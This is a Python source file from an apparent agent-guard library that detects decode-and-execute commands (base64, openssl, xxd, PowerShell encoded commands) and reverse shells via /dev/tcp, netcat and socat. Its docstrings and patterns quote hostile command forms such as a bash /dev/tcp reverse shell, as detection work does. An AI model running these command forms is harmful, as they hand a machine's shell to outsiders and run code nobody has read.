"""Decoded text that goes straight into an interpreter: nobody can have read it."""

from collections.abc import Mapping
from itertools import pairwise

from automode.guards.guard import Guard, See, Sight, words
from automode.programs.inline_effects import RUNS_DECODED
from automode.shell.launchers import SHELLS
from automode.shell.script import HOLE, Command, Script

_INTERPRETERS = SHELLS | words(
    "python python2 python3 perl ruby node nodejs php lua pwsh powershell deno bun osascript"
)
_EVALUATES = words("eval source . exec")


def decodes(command: Command) -> bool:
    """Whether the command turns encoded text into plain text on its standard output."""
    name = command.name
    texts = [word.text for word in command.args]
    if name in ("base64", "gbase64", "base32", "basenc"):
        return any(_flag(text, "dD") or text.startswith("--d") for text in texts)
    if name == "openssl":
        known = texts[:1] in (["enc"], ["base64"], ["aes-256-cbc"])
        return known and any(text in ("-d", "-base64d") for text in texts)
    if name == "xxd":
        return any(_flag(text, "r") or text == "-revert" for text in texts)
    return name in ("uudecode", "b64decode", "gb64decode")


def _flag(text: str, letters: str) -> bool:
    return text[:1] == "-" and text[:2] != "--" and any(letter in text for letter in letters)


def _reads_code(command: Command) -> bool:
    """Whether an interpreter takes its code from standard input."""
    names = [word.text for word in command.args if not word.text.startswith("-")]
    inline = any(word.text in ("-c", "-e", "-r", "-m", "-p") for word in command.args)
    return not inline and (not names or names[0] in ("/dev/stdin", "/dev/fd/0"))


def _sees(sight: Sight) -> str | None:
    command = sight.command
    if command.program == RUNS_DECODED:
        return "the code decodes a text and runs it"
    if sight.name in ("powershell", "pwsh") and any(map(_encoded, sight.texts)):
        return f"the script for `{sight.name}` is encoded"
    decoders = [c for c in sight.script.commands if decodes(c)]
    if not decoders:
        return None
    piped = sight.name in _INTERPRETERS and command.position and _reads_code(command)
    if piped and any(_feeds(decoder, command) for decoder in decoders):
        return f"what is decoded goes into `{sight.name}`"
    if _takes_output(sight, decoders):
        return f"what is decoded is run by `{sight.name}`"
    return None


def _encoded(text: str) -> bool:
    """`-EncodedCommand` and every abbreviation of it that PowerShell takes."""
    return len(text) > 1 and "-encodedcommand".startswith(text.casefold())


def _feeds(decoder: Command, command: Command) -> bool:
    return decoder.pipeline == command.pipeline and decoder.position < command.position


def _takes_output(sight: Sight, decoders: list[Command]) -> bool:
    """`bash <(base64 -d x)`, `eval "$(… | base64 -d)"`, `sh -c "$(base64 -d <<< …)"`: the decoder
    stands in a substitution, which is listed right before the command that uses it."""
    command = sight.command
    evaluates = sight.name in _EVALUATES or "-c" in sight.texts or "-e" in sight.texts
    unknown = [w for w in command.args if HOLE in w.text]
    if sight.name not in _INTERPRETERS and sight.name not in _EVALUATES:
        return False
    before = _just_before(sight.script, command)
    if before is None or not decodes(before):
        return bool(unknown) and evaluates and _assigned_from(sight.script, decoders)
    literal = evaluates and any(w.value for w in command.args)
    return bool(unknown) or (literal and before.pipeline != command.pipeline)


def _assigned_from(script: Script, decoders: list[Command]) -> bool:
    """`x=$(base64 -d f); eval "$x"`: a decoder right before an assignment of an unknown value."""
    for decoder, after in pairwise(script.commands):
        if decoder in decoders and not after.words and after.assignments:
            return True
    return False


def _just_before(script: Script, command: Command) -> Command | None:
    previous: Command | None = None
    for one in script.commands:
        if one is command:
            return previous
        previous = one
    return None


DECODED_SCRIPT = Guard(
    id="decoded-script",
    reason="this runs text that was hidden by an encoding",
    advice="decode it into a file, read it, then run it",
    sees=_sees,
    programs=_INTERPRETERS | _EVALUATES | {RUNS_DECODED},
    remote=True,
)


_SHELLS = SHELLS | words("cmd powershell pwsh python python3 perl")


def _connected(sight: Sight) -> str | None:
    """`bash -i >& /dev/tcp/HOST/PORT 0>&1`."""
    for redirect in sight.command.redirects:
        if redirect.target.text.startswith(("/dev/tcp/", "/dev/udp/")):
            return "its input and output are a connection"
    return None


def _is_shell(text: str) -> bool:
    return text.split(",", 1)[0].split()[0].rsplit("/", 1)[-1] in _SHELLS if text.strip() else False


def _netcat(sight: Sight) -> str | None:
    texts = sight.texts
    for index, text in enumerate(texts):
        name, equals, value = text.partition("=")
        short = name[:1] == "-" and name[:2] != "--" and name[-1:] in ("e", "c")
        if short or name in ("--exec", "--sh-exec", "--lua-exec"):
            after = texts[index + 1] if index + 1 < len(texts) else ""
            if _is_shell(value if equals else after):
                return "every connection gets a shell"
    return None


def _socat(sight: Sight) -> str | None:
    parts = [text.partition(":") for text in sight.texts]
    kinds = {kind.casefold() for kind, _, _ in parts}
    shell = any(
        kind.casefold() in ("exec", "system") and _is_shell(rest.strip("'\""))
        for kind, _, rest in parts
    )
    outside = any(kind.startswith(("tcp", "udp", "ssl", "openssl", "proxy")) for kind in kinds)
    return "the connection gets a shell" if shell and outside else None


_BY_PROGRAM: Mapping[str, See] = {
    **dict.fromkeys(SHELLS, _connected),
    **dict.fromkeys(words("nc ncat netcat nc.traditional nc.openbsd"), _netcat),
    "socat": _socat,
}


def _remote_shell_sees(sight: Sight) -> str | None:
    return _BY_PROGRAM[sight.name](sight)


REMOTE_SHELL = Guard(
    id="remote-shell",
    reason="this gives a shell on this machine to another one",
    advice="let the person open the connection, with SSH for example",
    sees=_remote_shell_sees,
    programs=frozenset(_BY_PROGRAM),
    remote=True,
)
